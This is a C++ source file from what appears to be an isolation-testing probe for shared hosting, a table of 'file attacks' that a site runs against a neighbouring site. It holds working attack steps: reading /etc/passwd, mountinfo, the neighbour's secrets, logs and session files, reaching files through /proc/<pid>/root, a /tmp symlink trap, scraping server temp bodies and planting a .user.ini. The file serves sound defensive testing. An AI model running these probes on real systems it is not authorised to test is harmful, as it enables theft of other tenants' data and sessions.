// Group A: the neighbour's files, by path.
//
// Runs in: bulkhead-probe, as the attacking site.  Ref: path_resolution(7), proc(5).
#include <fcntl.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <ctime>

#include "probe/probe.h"

namespace bulkhead::probe {
namespace {

Finding read_public(const Facts& f) { return read_path(f["public"]); }
Finding read_private(const Facts& f) { return read_path(f["secret"]); }

// Makes a file and leaves it: verify looks for it from outside, and removes it.
Finding make_file(const std::string& path) {
  int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
  if (fd < 0) return refused("create " + path);
  bool written = ::write(fd, "; planted\n", 10) == 10;
  ::close(fd);
  Finding made = obtained("created " + path);
  made.done = written;
  return made;
}
Finding write_into_open_directory(const Facts& f) { return make_file(f["planted"]); }

Finding read_passwd(const Facts&) { return read_path("/etc/passwd"); }
Finding list_neighbours(const Facts& f) { return list_directory(f["base"]); }
Finding read_mounts(const Facts&) { return read_path("/proc/self/mountinfo"); }
// Its end: what was asked for a moment ago.
Finding read_log(const Facts& f) { return read_end(f["log"], 1 << 20); }
Finding read_server_config(const Facts& f) { return read_path(f["server_config"]); }

Finding hard_link(const Facts& f) {
  const std::string link = f["own_root"] + "/" + f["tag"] + ".link";
  if (::linkat(AT_FDCWD, f["secret"].c_str(), AT_FDCWD, link.c_str(), 0) != 0) {
    return refused("link " + f["secret"]);
  }
  ::unlink(link.c_str());
  return obtained("made a hard link to " + f["secret"]);
}

// The same file through the root directory of any process that can be seen.
Finding through_proc_root(const Facts& f) {
  Finding names = list_directory("/proc");
  if (!names.done) return names;
  Finding last = cannot("/proc shows no process");
  for (size_t at = 0; at < names.got.size();) {
    size_t end = names.got.find('\n', at);
    std::string name = names.got.substr(at, end - at);
    at = end + 1;
    if (name[0] < '1' || name[0] > '9') continue;
    Finding found = read_path("/proc/" + name + "/root" + f["public"]);
    if (found.done) return found;
    last = found;
  }
  return last;
}

Finding read_tmp(const Facts& f) { return read_path("/tmp/" + f["tag"]); }
Finding read_var_tmp(const Facts& f) { return read_path("/var/tmp/" + f["tag"]); }
Finding read_dev_shm(const Facts& f) { return read_path("/dev/shm/" + f["tag"]); }

Finding list_sessions(const Facts& f) {
  if (f["session_dir"].empty()) return cannot("the neighbour has no session directory");
  return list_directory(f["session_dir"]);
}
Finding see_session(const Facts& f) {
  if (f["session_file"].empty()) return cannot("the neighbour has no session");
  struct stat facts {};
  if (::stat(f["session_file"].c_str(), &facts) != 0) return refused("stat " + f["session_file"]);
  return obtained("inode=" + std::to_string(facts.st_ino) +
                  ". last used=" + std::to_string(facts.st_mtime));
}
Finding read_session(const Facts& f) {
  if (f["session_file"].empty()) return cannot("the neighbour has no session");
  return read_path(f["session_file"]);
}

// Leaves a link where the neighbour is about to write a temporary file.
Finding bait(const Facts& f) {
  const std::string mine = f["own_root"] + "/" + f["tag"] + ".caught";
  int fd = ::open(mine.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
  if (fd < 0) return refused("create " + mine);
  ::fchmod(fd, 0666);
  ::close(fd);
  const std::string link = "/tmp/" + f["tag"] + ".out";
  if (::symlink(mine.c_str(), link.c_str()) != 0) return refused("symlink " + link);
  return obtained("placed " + link);
}
Finding take_bait(const Facts& f) {
  const std::string mine = f["own_root"] + "/" + f["tag"] + ".caught";
  Finding caught = read_path(mine);
  ::unlink(mine.c_str());
  ::unlink(("/tmp/" + f["tag"] + ".out").c_str());
  return caught;
}

// Every file below the directories where the server keeps bodies on their way, for a second.
Finding server_temp(const Facts& f) {
  std::string all;
  Finding last = cannot("no temporary directory is known");
  timespec pause{0, 20'000'000};
  for (int round = 0; round < 25; ++round) {
    const std::string& list = f["temp_dirs"];
    for (size_t at = 0; at < list.size();) {
      size_t end = std::min(list.find(' ', at), list.size());
      std::string dir = list.substr(at, end - at);
      at = end + 1;
      Finding names = list_directory(dir);
      if (!names.done) {
        last = names;
        continue;
      }
      last = refused("find a body in " + dir, ENOENT);
      for (size_t n = 0; n < names.got.size();) {
        size_t stop = names.got.find('\n', n);
        Finding file = read_path(dir + "/" + names.got.substr(n, stop - n));
        n = stop + 1;
        if (file.done) all += file.got;
      }
    }
    if (!all.empty()) return obtained(all);
    ::nanosleep(&pause, nullptr);
  }
  return last;
}

Finding plant_user_ini(const Facts& f) { return make_file(f["base"] + "/.user.ini"); }

// Holds a lock on a file that the neighbour locks too; verify asks him meanwhile.
Finding hold_lock(const Facts& f) {
  int fd = ::open(f["public"].c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return refused("open " + f["public"]);
  if (::flock(fd, LOCK_EX | LOCK_NB) != 0) return refused("flock " + f["public"]);
  timespec pause{1, 500'000'000};
  ::nanosleep(&pause, nullptr);
  return obtained("held an exclusive lock on " + f["public"]);
}

constexpr Row kRows[] = {
    {"A1", read_public},
    {"A1b", read_private},
    {"A1c", write_into_open_directory},
    {"A2", read_passwd},
    {"A2b", list_neighbours},
    {"A2c", read_mounts},
    {"A2d", read_log},
    {"A2e", read_server_config},
    {"A5", hard_link},
    {"A5c", through_proc_root},
    {"A9", read_tmp},
    {"A9b", read_var_tmp},
    {"A9c", read_dev_shm},
    {"A9d", list_sessions},
    {"A9e", see_session},
    {"A9f", read_session},
    {"A9g", bait},
    {"A9g+", take_bait},
    {"A10", server_temp},
    {"A15", plant_user_ini},
    {"E12", hold_lock},
};

}  // namespace

std::span<const Row> file_attacks() { return kRows; }

}  // namespace bulkhead::probe
